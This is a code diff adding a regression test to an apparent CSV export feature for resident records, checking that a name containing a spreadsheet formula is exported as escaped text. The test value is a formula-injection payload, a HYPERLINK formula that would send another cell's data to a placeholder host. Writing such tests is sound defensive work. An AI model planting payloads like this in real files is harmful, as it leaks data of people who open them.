@@ -105,3 +105,13 @@ def test_the_export_page_refuses_a_reversed_period(client, certified, provincial
                                                  "period_end": "2026-03-01", "file_format": "csv"})
     assert "Ngày kết thúc phải sau ngày bắt đầu." in response.content.decode()
     assert not NationalExport.objects.exists()
+
+
+def test_a_name_that_looks_like_a_formula_reaches_the_csv_as_text(certified, provincial_admin, province, resident):
+    """Issue 13, finding 4: «=HYPERLINK(…)» as a name must not run when the CSV is opened in a spreadsheet."""
+    malicious = '=HYPERLINK("http://x?d="&B2,"x")'
+    type(resident).objects.filter(pk=resident.pk).update(full_name=malicious)
+    exported = export(provincial_admin, province.a)
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    assert rows[0]["ho_ten"] == "'" + malicious
+    assert len(rows[0]["so_dinh_danh"]) == 12  # the other columns are untouched
